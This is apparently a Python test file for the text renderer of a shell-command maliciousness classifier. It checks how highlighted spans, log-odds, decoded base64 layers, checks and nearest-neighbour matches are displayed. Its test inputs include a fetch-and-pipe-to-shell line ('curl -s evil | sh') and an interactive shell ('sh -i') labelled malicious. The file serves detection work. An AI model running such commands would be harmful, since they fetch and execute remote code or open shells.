from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from cmdclf.cli._explain_text import explained_text


def span(text, start, end, log_odds, layer=None):
    return {
        "layer": layer, "kind": None if layer is None else "base64", "start": start, "end": end,
        "text": text[start:end], "log_odds": log_odds,
    }  # fmt: skip


def row(line, spans=(), **more):
    known = {
        "score": 0.5, "verdict": "unsure", "command_line": line, "layers": [], "spans": list(spans), "checks": [],
        "neighbours": [], "log_odds": {"ngrams": 1.0, "constant": -0.5, "rest": 0.25},
    }  # fmt: skip
    return known | more


def test_what_adds_is_marked_with_carets_and_what_takes_with_dashes():
    line = "curl -s evil | sh"
    shown = explained_text(row(line, [span(line, 8, 12, 2.5), span(line, 0, 4, -0.75), span(line, 5, 7, 0.01)]))
    assert shown.splitlines() == [
        "unsure  0.5000",
        "    curl -s evil | sh",
        "    ----    ^^^^",
        "    -0.75   +2.50",
        "  log-odds: n-grams +1.00 (spans +1.76, constant -0.50), trees and others +0.25",
        "",
    ]


def test_wide_and_combining_characters_keep_marks_in_their_columns():
    line = "日本 e\u0301 x\x1b y"
    shown = explained_text(row(line, [span(line, 6, 8, 1.0)])).splitlines()
    # Four columns, a blank, one, a blank; the escape takes four.
    assert shown[1] == "    日本 e\u0301 x\\x1b y"
    assert shown[2] == "    " + " " * 7 + "^" * 5


def test_labels_that_would_touch_go_into_another_row():
    line = "a b c"
    shown = explained_text(row(line, [span(line, k, k + 1, 1.0 + k) for k in (0, 2, 4)])).splitlines()
    assert shown[2:6] == ["    ^ ^ ^", "    +1.00", "      +3.00", "        +5.00"]


def test_of_a_long_line_the_first_row_and_the_marked_ones_are_shown():
    line = "a" * 3000 + " evil " + "b" * 100_000
    shown = explained_text(row(line, [span(line, 3001, 3005, 2.0)])).splitlines()
    assert len(shown) < 10
    assert shown[1].strip("a ") == ""
    assert [text.strip() for text in shown].count("...") == 2
    at = next(k for k, text in enumerate(shown) if "evil" in text)
    assert shown[at + 1].index("^^^^") == shown[at].index("evil")


def test_layers_checks_and_neighbours_have_their_rows():
    checks = [
        {"check": "c1", "title": "Title", "where": "layer", "effect": 0.1, "log_odds": 0.5},
        {"check": "c2", "title": "Inner", "where": "inner command", "effect": None, "log_odds": None},
    ]
    near = {
        "cosine": 0.912, "label": "malicious", "source": "lin-x", "intent": "a shell\x1b", "technique": ["T1059.004"],
        "platform": "linux", "command_line": "sh -i \x07",
    }  # fmt: skip
    whole = row("x", [span("whoami", 0, 6, 1.0, 0)], layers=["base64: whoami"], checks=checks, neighbours=[near])
    shown = [text.strip() for text in explained_text(whole).splitlines()]
    assert shown[2:6] == ["decoded (base64), n-grams +1.00", "whoami", "^^^^^^", "+1.00"]
    assert shown[7:] == [
        "check: Title (c1, in the layer, +0.50)",
        "check: Inner (c2, in the inner command)",
        "like: 0.91  malicious; lin-x; a shell\\x1b; T1059.004",
        "sh -i \\x07",
        "",
    ]


def test_a_row_without_a_line_says_so():
    assert explained_text(row(None, log_odds=None, score=None, verdict=None)) == "no command line\n\n"


@settings(max_examples=60, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=400), st.data())
def test_any_line_gives_printable_rows_of_bounded_width(line, data):
    cuts = sorted(data.draw(st.lists(st.integers(0, len(line)), max_size=6)))
    spans = [span(line, a, b, 1.0) for a, b in zip(cuts[::2], cuts[1::2], strict=False)]
    shown = explained_text(row(line, spans, layers=[f"hex: {line}"]))
    assert all(c.isprintable() or c == "\n" for c in shown)
    assert all(len(text) <= 220 for text in shown.split("\n"))
